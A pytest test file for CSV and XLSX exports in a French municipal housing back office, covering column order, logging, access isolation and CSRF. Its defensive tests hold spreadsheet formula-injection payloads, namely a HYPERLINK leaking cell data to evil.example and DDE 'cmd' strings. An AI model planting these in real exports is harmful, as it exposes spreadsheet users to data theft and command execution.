"""Exports of the queue as CSV and XLSX, read back: every one of ZLV's columns (its
headers, its order) then ours, answers and aids in words, the latest notes, formulas
neutralised, every export logged, never another collectivité's answers, POST with CSRF only."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import event, select

from portal.backoffice.export_columns import columns_for
from portal.backoffice.exports import csv_chunks, neutralised
from portal.models import AccessLog, CallbackRequest, HousingPrecision, Note, Response
from portal.models.contact import MOMENTS
from portal.owner.journey import record_owner_return
from portal.queue import refresh_tab
from tests.backoffice.answers_support import answered_letter, signed_in_agent
from tests.builders import make_agent, make_campaign, make_collectivite, make_housing, make_owner
from tests.conftest import csrf_token

# Exports' entries in the access log (reading the queue for a CSRF token logs a "list").
EXPORTS = select(AccessLog).where(AccessLog.action == "export")

QUEUE = "/gestion/reponses"
# ZLV's campaign export columns, as ZLV's controller lists them (a copy of ZLV's source).
ZLV_LISTS = Path(__file__).parents[1] / "fixtures" / "zlv" / "zlv_lists.json"
ZLV_EXPORT = json.loads(ZLV_LISTS.read_text(encoding="utf-8"))["campaign_export"]
ZLV_HEADERS = ZLV_EXPORT["columns"]
# Ours, after ZLV's: the latest return, one column per question (its short label, in the
# content's order), then the solutions, the call-back and the notes.
QUESTIONS = [
    "Situation du logement", "Durée d’inoccupation", "Propriétaire", "Projet", "Freins",
    "Travaux nécessaires", "Étiquette énergie (DPE)", "Loyer modéré accepté", "Revenus du foyer",
]  # fmt: skip
OURS = [
    "Date du dernier retour", *QUESTIONS, "Solutions présentées", "Demande de rappel",
    "Téléphone", "Courriel", "Moments", "Message", "Dernières notes",
]  # fmt: skip
EXPECTED_HEADERS = [*ZLV_HEADERS, *OURS]
OWNER = "Propriétaire destinataire principal"  # ZLV's header for the letter's addressee
NBSP = "\u00a0"
WHEN = datetime(2026, 3, 12, 13, 5, tzinfo=UTC)  # 14:05 in Paris


@pytest.fixture
def agent(client, session, town):
    return signed_in_agent(client, session, town)


def with_callback(app, session, letter, **details):
    with app.app_context():
        record_owner_return(session, letter, app.extensions["content"], "callback",
                            now=WHEN, callback=details)  # fmt: skip


def export(client, fmt="csv", selection=None, **fields):
    """POST the queue's export form (or the selection's) as the page would."""
    data = {"csrf_token": csrf_token(client, QUEUE), "onglet": "new"} | fields
    if selection is None:
        return client.post(f"{QUEUE}/export.{fmt}", data=data)
    return client.post(f"{QUEUE}/selection/export.{fmt}", data=data | {"reponse": selection})


def csv_rows(result) -> list[dict]:
    body = result.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark, for Excel
    reader = csv.reader(io.StringIO(body[3:].decode("utf-8"), newline=""), delimiter=";")
    rows = list(reader)
    assert rows[0] == EXPECTED_HEADERS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def xlsx_sheet(result):
    workbook = load_workbook(io.BytesIO(result.get_data()))
    assert workbook.sheetnames == ["Logements"]
    sheet = workbook["Logements"]
    assert [cell.value for cell in sheet[1]] == EXPECTED_HEADERS
    return sheet


def xlsx_rows(sheet) -> list[dict]:
    return [
        {header: cell for header, cell in zip(EXPECTED_HEADERS, row, strict=True)}
        for row in sheet.iter_rows(min_row=2)
    ]


@pytest.fixture
def answered(app, session, town):
    """One rich answer: précisions, two campaigns, a call-back request with a message."""
    owner = make_owner(session, town, full_name="Hélène Dupré", email="helene@example.org",
                       address_lines=["3 place du Marché", "18000 Bourges"])  # fmt: skip
    housing = make_housing(
        session, town, local_id="180330000123", invariant="1803300001", insee_code="18033",
        address_lines=["12 rue des Tilleuls", "18000 Bourges"], kind="APPART", living_area=64,
        rooms_count=3, building_year=1962, energy_label="F", vacancy_start_year=2019,
    )  # fmt: skip
    older = make_campaign(session, town, title="Relance 2025",
                          created_at=datetime(2025, 1, 1, tzinfo=UTC))  # fmt: skip
    letter = answered_letter(app, session, town, owner=owner, housing=housing, when=WHEN)
    answered_letter(app, session, town, campaign=older, owner=make_owner(session, town),
                    housing=housing, when=datetime(2025, 2, 1, tzinfo=UTC))  # fmt: skip
    for category, label in (("blocage-involontaire", "Succession en cours"),
                            ("dispositifs-incitatifs", "Conventionnement avec travaux"),
                            ("travaux", "À venir")):  # fmt: skip
        session.add(HousingPrecision(housing_id=housing.id, category=category, label=label,
                                     collectivite_id=town.id))  # fmt: skip
    session.commit()
    with_callback(app, session, letter, phone="+33612345678", email="h.dupre@example.org",
                  moments=["morning", "evening"], note="Plutôt après 18 h")  # fmt: skip
    return letter


def test_the_csv_reads_back_in_zlv_columns_with_our_own_after(app, client, agent, answered):
    result = export(client, onglet="callback")
    assert result.status_code == 200
    assert result.mimetype == "text/csv"
    assert result.headers["Cache-Control"] == "no-store"
    disposition = result.headers["Content-Disposition"]
    assert re.fullmatch(
        r'attachment; filename="reponses-proprietaires-\d{4}-\d{2}-\d{2}-\d{2}h\d{2}\.csv"',
        disposition,
    )
    assert b"\r\n" in result.get_data()  # RFC 4180 line ends
    (row,) = csv_rows(result)
    aid = app.extensions["content"].aids["anah-travaux-bailleur"].title["fr"]
    assert row["Identifiant fiscal national"] == "180330000123"
    assert row["Identifiant fiscal départemental"] == "1803300001"
    assert row["Code INSEE commune du logement"] == "18033"
    assert row["Adresse LOVAC du logement"] == "12 rue des Tilleuls\n18000 Bourges"
    assert (row["Type de logement"], row["DPE représentatif"]) == ("Appartement", "F")
    assert (row["Surface (m²)"], row["Nombre de pièces"], row["Année de construction"]) == (
        "64", "3", "1962",
    )  # fmt: skip
    assert row["Année de début de vacance"] == "2019"
    assert row["Occupation"] == "Vacant"
    assert (row["Statut"], row["Sous-statut"]) == ("Premier contact", "")
    assert row["Points de blocage"] == "Succession en cours"
    assert row["Évolutions du logement"] == "À venir"
    assert row["Dispositifs"] == "Conventionnement avec travaux"
    assert row["Campagnes"] == "Relance 2025\nCampagne test"  # oldest first
    assert row[OWNER] == "Hélène Dupré"
    assert row["Adresse LOVAC du propriétaire"] == "3 place du Marché\n18000 Bourges"
    # ZLV's columns the portal has nothing for are there, empty.
    for empty in ("Référence cadastrale", "Précisions adresse du logement",
                  "Adresse BAN du logement", "Latitude", "Longitude", "Date DPE",
                  "Date de naissance du propriétaire", "Adresse BAN du propriétaire", "Numéro",
                  "Voie", "Code postal", "Commune", "Localisation du propriétaire"):  # fmt: skip
        assert row[empty] == ""
    assert row["Date du dernier retour"] == "2026-03-12 14:05"  # Paris time
    # The owner's answers in words, one column per question.
    assert row["Situation du logement"] == "Vide, personne n’y habite"
    assert row["Projet"] == "Le louer"
    assert row["Freins"] == "Une succession pas encore réglée, Le coût des travaux"
    assert row["Durée d’inoccupation"] != "gt_2y" and row["Durée d’inoccupation"]
    assert row["Revenus du foyer"] == ""  # not answered
    assert aid in row["Solutions présentées"].split("\n")
    assert row["Demande de rappel"] == "Demandé"
    assert row["Téléphone"] == "06 12 34 56 78"  # national form: no "+", no apostrophe
    assert row["Courriel"] == "h.dupre@example.org"  # the one given for the call-back
    assert row["Moments"] == "Le matin, En fin de journée"
    assert row["Message"] == "Plutôt après 18 h"


def test_the_xlsx_reads_back_with_numbers_dates_and_text(app, client, agent, answered):
    result = export(client, "xlsx", onglet="callback")
    assert result.status_code == 200
    assert result.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert result.headers["Content-Disposition"].endswith('.xlsx"')
    assert result.headers["Cache-Control"] == "no-store"
    (row,) = xlsx_rows(xlsx_sheet(result))
    assert row["Identifiant fiscal national"].value == "180330000123"
    assert row["Identifiant fiscal national"].data_type == "s"  # an id, not a number
    assert (row["Surface (m²)"].value, row["Surface (m²)"].data_type) == (64, "n")
    assert row["Date du dernier retour"].value == datetime(2026, 3, 12, 14, 5)
    assert row["Date du dernier retour"].is_date
    assert row["Projet"].value == "Le louer"
    assert row["Référence cadastrale"].value is None
    assert row["Adresse LOVAC du logement"].value == "12 rue des Tilleuls\n18000 Bourges"
    assert row["Téléphone"].value == "06 12 34 56 78"
    assert row["Statut"].value == "Premier contact"
    assert row["Sous-statut"].value is None


DANGEROUS_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_names_that_could_be_formulas_come_back_as_text_in_both_formats(
    app, client, session, town, agent
):
    for n, name in enumerate(DANGEROUS_NAMES):
        owner = make_owner(session, town, full_name=name, phone="+447911123456")
        housing = make_housing(session, town, local_id=f"18033000000{n}")
        answered_letter(app, session, town, owner=owner, housing=housing)
    rows = sorted(csv_rows(export(client)), key=lambda row: row["Identifiant fiscal national"])
    assert [row[OWNER] for row in rows] == ["'" + name for name in DANGEROUS_NAMES]
    assert {row["Téléphone"] for row in rows} == {"'+447911123456"}  # foreign: keeps its "+"
    result = export(client, "xlsx")
    rows = sorted(xlsx_rows(xlsx_sheet(result)),
                  key=lambda row: row["Identifiant fiscal national"].value)  # fmt: skip
    for name, row in zip(DANGEROUS_NAMES, rows, strict=True):
        cell = row[OWNER]
        assert cell.value == "'" + name.replace("\r", "\n")  # XML reads a CR back as a LF
        assert cell.data_type == "s"  # text, not a formula ("f")
        assert row["Téléphone"].value == "'+447911123456"
    sheet_xml = zipfile.ZipFile(io.BytesIO(result.get_data())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"), ("\x00=1+1", "'=1+1"), ("a\x00b\x1f", "ab"), ("Dupré", "Dupré"),
        ("", ""), ("a=1", "a=1"), ("ligne 1\n=2", "ligne 1\n=2"),
    ],
)  # fmt: skip
def test_neutralised_is_the_one_rule_for_both_formats(text, expected):
    assert neutralised(text) == expected


def test_the_csv_is_produced_while_it_is_read():
    consumed = []

    def rows():
        for n in range(1000):
            consumed.append(n)
            yield [f"ligne {n}", n, None]

    chunks = csv_chunks(["Ligne", "Numéro", "Vide"], rows(), every=100)
    first = next(chunks)
    assert first.startswith(b"\xef\xbb\xbf") and not consumed  # the header, nothing read yet
    next(chunks)
    assert len(consumed) == 100  # one batch, not the whole file
    assert len(list(chunks)) == 9


def test_an_export_is_logged_with_the_owners_count_and_the_filter(app, client, session, town,
                                                                   agent):  # fmt: skip
    albert = make_owner(session, town, full_name="Albert Ancien")
    answered_letter(app, session, town, owner=albert)
    answered_letter(app, session, town, owner=albert)  # a second dwelling, same owner
    answered_letter(app, session, town, owner=make_owner(session, town, full_name="Zoé Zola"))
    rows = csv_rows(export(client, q="ancien"))
    assert [row[OWNER] for row in rows] == ["Albert Ancien", "Albert Ancien"]
    session.rollback()
    (log,) = session.scalars(select(AccessLog).where(AccessLog.action == "export")).all()
    assert (log.agent_id, log.action, log.owner_id, log.count) == (agent.id, "export", None, 1)
    assert log.detail == {"format": "csv", "tab": "new", "filter": {"q": "ancien"}}


def test_the_export_follows_the_current_tab(app, client, session, town, agent, answered):
    answered_letter(app, session, town, owner=make_owner(session, town, full_name="Nina Neuve"))
    new = [row[OWNER] for row in csv_rows(export(client))]
    assert "Nina Neuve" in new and "Hélène Dupré" not in new
    callback = csv_rows(export(client, onglet="callback"))
    assert [row[OWNER] for row in callback] == ["Hélène Dupré"]


def test_the_selection_is_exported_and_logged(app, client, session, town, agent):
    letters = [answered_letter(app, session, town) for _ in range(3)]
    ids = [session.scalar(select(Response.id).where(Response.letter_id == letter.id))
           for letter in letters]  # fmt: skip
    rows = xlsx_rows(xlsx_sheet(export(client, "xlsx", selection=ids[:2])))
    assert sorted(row[OWNER].value for row in rows) == sorted(
        letter.owner.full_name for letter in letters[:2]
    )
    session.rollback()
    (log,) = session.scalars(select(AccessLog).where(AccessLog.action == "export")).all()
    assert (log.action, log.count) == ("export", 2)
    assert log.detail == {"format": "xlsx", "tab": None, "responses": sorted(ids[:2])}


def test_another_collectivites_answers_are_never_exported(app, client, session, town, agent):
    other = make_collectivite(session, name="Commune voisine")
    session.commit()
    odile = make_owner(session, other, full_name="Odile Ailleurs")
    foreign = answered_letter(app, session, other, owner=odile)
    mine = answered_letter(app, session, town)
    foreign_id = session.scalar(select(Response.id).where(Response.letter_id == foreign.id))
    mine_id = session.scalar(select(Response.id).where(Response.letter_id == mine.id))
    assert [row[OWNER] for row in csv_rows(export(client))] == [mine.owner.full_name]
    xlsx = xlsx_rows(xlsx_sheet(export(client, "xlsx")))
    assert [row[OWNER].value for row in xlsx] == [mine.owner.full_name]
    for fmt in ("csv", "xlsx"):
        refused = export(client, fmt, selection=[mine_id, foreign_id])
        assert refused.status_code == 404
        assert b"Odile" not in refused.get_data()
    session.rollback()
    assert [log.count for log in session.scalars(EXPORTS)] == [1, 1]


def test_exports_are_posted_with_the_csrf_token_by_a_signed_in_agent(app, client, session, town):
    answered_letter(app, session, town)
    token = csrf_token(client, "/gestion/connexion")
    signed_out = client.post(f"{QUEUE}/export.csv", data={"csrf_token": token})
    assert signed_out.status_code == 303
    assert signed_out.headers["Location"].startswith("/gestion/connexion")
    signed_in_agent(client, session, town)
    assert client.get(f"{QUEUE}/export.csv").status_code == 405
    assert client.get(f"{QUEUE}/export.xlsx").status_code == 405
    assert client.post(f"{QUEUE}/export.csv", data={"onglet": "new"}).status_code == 400
    assert client.post(f"{QUEUE}/export.pdf", data={}).status_code in (400, 404)
    session.rollback()
    assert session.scalar(EXPORTS) is None


@pytest.mark.parametrize(
    ("selection", "message"),
    [([], "Cochez au moins une réponse"), (["abc"], "La sélection n’est pas valide"),
     (["-1"], "La sélection n’est pas valide"), ([str(n) for n in range(1, 502)], "au plus 500")],
)  # fmt: skip
def test_a_bad_selection_is_not_exported(app, client, session, town, agent, selection, message):
    answered_letter(app, session, town)
    result = export(client, selection=selection)
    assert result.status_code == 400
    assert message in result.get_data(as_text=True)
    session.rollback()
    assert session.scalar(EXPORTS) is None


def test_a_tampered_filter_is_refused(app, client, session, town, agent):
    answered_letter(app, session, town)
    foreign = make_campaign(session, make_collectivite(session, name="Commune voisine"))
    session.commit()
    assert export(client, since="31/02/2026").status_code == 400
    assert export(client, campaign=str(foreign.id)).status_code == 400  # not one of ours
    assert export(client, campaign="99999").status_code == 400
    session.rollback()
    assert session.scalar(EXPORTS) is None


def test_zlvs_columns_come_first_every_one_in_zlvs_order_then_ours(app, client, agent,
                                                                   answered):  # fmt: skip
    assert ZLV_EXPORT["sheet"] == "Logements" and len(ZLV_HEADERS) == 35
    assert len(set(EXPECTED_HEADERS)) == len(EXPECTED_HEADERS)  # one column per header
    with app.test_request_context():
        columns = columns_for(app.extensions["content"], agent.collectivite, "fr", MOMENTS)
        assert columns.headers() == EXPECTED_HEADERS
    csv_rows(export(client, onglet="callback"))  # both files check their header row
    xlsx_sheet(export(client, "xlsx", onglet="callback"))


def test_the_owners_answers_are_written_in_words(app, client, session, town, agent):
    answers = {"situation": "for_sale", "intention": "sell", "owner_kind": "indivision",
               "blockers": ["sale_unsuccessful"]}  # fmt: skip
    answered_letter(app, session, town, answers=answers)
    (row,) = csv_rows(export(client))
    assert row["Projet"] == "Le vendre"
    assert row["Situation du logement"] == "En vente"
    assert row["Freins"] == "Je n’arrive pas à le vendre"
    assert "sell" not in row.values() and "indivision" not in row.values()
    (cells,) = xlsx_rows(xlsx_sheet(export(client, "xlsx")))
    assert cells["Projet"].value == "Le vendre"
    assert cells["Travaux nécessaires"].value is None  # not asked


def test_a_local_aid_is_written_by_its_title(app, client, session, town, agent):
    town.settings = {"local_aids": [{"id": "d3d3d3d3", "slug": "local:prime-renovation-demoville",
                                     "title": "Prime rénovation de Demoville"}]}  # fmt: skip
    session.commit()
    letter = answered_letter(app, session, town)
    response = session.scalar(select(Response).where(Response.letter_id == letter.id))
    assert "local:prime-renovation-demoville" in {r.aid_slug for r in response.recommendations}
    for rows in (csv_rows(export(client)),
                 [{k: c.value for k, c in row.items()}
                  for row in xlsx_rows(xlsx_sheet(export(client, "xlsx")))]):  # fmt: skip
        (row,) = rows
        seen = row["Solutions présentées"].split("\n")
        assert "Prime rénovation de Demoville" in seen
        assert not any("local:" in title for title in seen)


def test_the_three_latest_notes_are_written_with_their_authors(app, client, session, town,
                                                               agent):  # fmt: skip
    letter = answered_letter(app, session, town)
    colleague = make_agent(session, town, full_name="Camille Martin")
    nameless = make_agent(session, town, full_name="", email="sans.nom@commune.example")
    notes = [  # (day, author, kind, text), oldest first
        (1, colleague, "Note courante", "La plus ancienne"),
        (2, agent, "Note courante", "Deuxième"),
        (3, nameless, "Visite", "Troisième"),
        (4, colleague, "Appel", "=Dernière"),
    ]
    for day, author, kind, text in notes:
        session.add(Note(collectivite_id=town.id, housing_id=letter.housing_id,
                         agent_id=author.id, kind=kind, content=text,
                         created_at=datetime(2026, 4, day, 10, tzinfo=UTC)))  # fmt: skip
    other = answered_letter(app, session, town)  # another dwelling: no note of the first
    session.commit()
    rows = {row["Identifiant fiscal national"]: row for row in csv_rows(export(client))}
    written = rows[letter.housing.local_id]["Dernières notes"].split("\n")
    assert written == [
        f"4{NBSP}avril{NBSP}2026 – Camille Martin – Appel{NBSP}: =Dernière",
        f"3{NBSP}avril{NBSP}2026 – sans.nom@commune.example – Visite{NBSP}: Troisième",
        f"2{NBSP}avril{NBSP}2026 – {agent.full_name} – Note courante{NBSP}: Deuxième",
    ]
    assert rows[other.housing.local_id]["Dernières notes"] == ""


def test_a_call_back_done_is_written_with_its_date(app, client, session, town, agent, answered):
    callback = session.scalar(select(CallbackRequest)
                              .where(CallbackRequest.letter_id == answered.id))  # fmt: skip
    callback.handled_at = datetime(2026, 3, 20, 23, 30, tzinfo=UTC)  # the 21st in Paris
    response = session.scalar(select(Response).where(Response.letter_id == answered.id))
    refresh_tab(session, response)
    session.commit()
    (row,) = [row for row in csv_rows(export(client)) if row[OWNER] == "Hélène Dupré"]
    assert row["Demande de rappel"] == f"Fait le 21{NBSP}mars{NBSP}2026"


def export_all(client, fmt="csv", **fields):
    data = {"csrf_token": csrf_token(client, QUEUE), "onglet": "new"} | fields
    return client.post(f"{QUEUE}/toutes/export.{fmt}", data=data)


def test_all_answers_are_exported_from_every_tab_and_only_the_collectivites(
    app, client, session, town, agent
):
    carl = answered_letter(app, session, town,
                           owner=make_owner(session, town, full_name="Carl Rappel"))  # fmt: skip
    with_callback(app, session, carl, phone="0612345678")
    nina = answered_letter(app, session, town,
                           owner=make_owner(session, town, full_name="Nina Neuve"))  # fmt: skip
    suivi = answered_letter(app, session, town,
                            owner=make_owner(session, town, full_name="Sacha Suivi"))  # fmt: skip
    response = session.scalar(select(Response).where(Response.letter_id == suivi.id))
    response.reviewed_at = WHEN
    refresh_tab(session, response)
    other = make_collectivite(session, name="Commune voisine")
    answered_letter(app, session, other,
                    owner=make_owner(session, other, full_name="Odile Ailleurs"))  # fmt: skip
    session.commit()
    tabs = dict(session.execute(select(Response.letter_id, Response.queue_tab)).all())
    assert {tabs[carl.id], tabs[nina.id], tabs[suivi.id]} == {"new", "callback", "follow-up"}
    everyone = {"Carl Rappel", "Nina Neuve", "Sacha Suivi"}
    assert {row[OWNER] for row in csv_rows(export_all(client))} == everyone
    xlsx = xlsx_rows(xlsx_sheet(export_all(client, "xlsx", onglet="closed")))
    assert {row[OWNER].value for row in xlsx} == everyone  # whatever the current tab
    narrowed = csv_rows(export_all(client, q="neuve", onglet="bogus"))
    assert [row[OWNER] for row in narrowed] == ["Nina Neuve"]  # the filter still applies
    session.rollback()
    logs = session.scalars(EXPORTS.order_by(AccessLog.id)).all()
    assert [(log.count, log.detail) for log in logs] == [
        (3, {"format": "csv", "tab": None, "filter": {}}),
        (3, {"format": "xlsx", "tab": None, "filter": {}}),
        (1, {"format": "csv", "tab": None, "filter": {"q": "neuve"}}),
    ]


def test_the_queue_offers_the_all_answers_export_even_on_an_empty_tab(app, client, session,
                                                                       town, agent):  # fmt: skip
    answered_letter(app, session, town)
    html = client.get(f"{QUEUE}?onglet=closed").get_data(as_text=True)
    assert f'formaction="{QUEUE}/toutes/export.csv"' in html
    assert f'formaction="{QUEUE}/toutes/export.xlsx"' in html
    assert "Exporter l’onglet" not in html  # nothing in this tab
    html = client.get(QUEUE).get_data(as_text=True)
    assert "Exporter l’onglet en CSV" in html and "Exporter toutes les réponses en CSV" in html


@pytest.mark.parametrize("tab", ["bogus", "", "\x00", "closed|new", "9" * 400])
def test_an_unknown_tab_is_ignored(app, client, session, town, agent, tab):
    answered_letter(app, session, town, owner=make_owner(session, town, full_name="Nina Neuve"))
    assert [row[OWNER] for row in csv_rows(export(client, onglet=tab))] == ["Nina Neuve"]
    assert [row[OWNER] for row in csv_rows(export_all(client, onglet=tab))] == ["Nina Neuve"]


def test_the_all_answers_export_is_posted_with_the_csrf_token(app, client, session, town):
    answered_letter(app, session, town)
    signed_out = client.post(f"{QUEUE}/toutes/export.csv", data={})
    assert signed_out.status_code in (303, 400)
    signed_in_agent(client, session, town)
    assert client.get(f"{QUEUE}/toutes/export.csv").status_code == 405
    assert client.post(f"{QUEUE}/toutes/export.csv", data={"onglet": "new"}).status_code == 400
    assert client.post(f"{QUEUE}/toutes/export.xlsx", data={}).status_code == 400
    assert export_all(client, since="31/02/2026").status_code == 400
    session.rollback()
    assert session.scalar(EXPORTS) is None


def test_an_export_reads_its_details_a_batch_at_a_time(app, client, session, town, agent):
    """As many queries for 2 answers as for 8, notes and their authors included."""

    def queries(fmt: str) -> int:
        statements = []
        engine = app.extensions["database"]
        token = csrf_token(client, QUEUE)

        def spy(conn, cursor, statement, *args):
            statements.append(statement)

        event.listen(engine, "before_cursor_execute", spy)
        try:
            result = client.post(f"{QUEUE}/toutes/export.{fmt}", data={"csrf_token": token})
            assert result.status_code == 200
            result.get_data()  # the CSV is read while it is sent
        finally:
            event.remove(engine, "before_cursor_execute", spy)
        return len(statements)

    def answers(count: int) -> None:
        for _ in range(count):
            letter = answered_letter(app, session, town)
            session.add(Note(collectivite_id=town.id, housing_id=letter.housing_id,
                             agent_id=agent.id, content="Appelé"))  # fmt: skip
        session.commit()

    answers(2)
    few = {fmt: queries(fmt) for fmt in ("csv", "xlsx")}
    answers(6)
    assert {fmt: queries(fmt) for fmt in ("csv", "xlsx")} == few
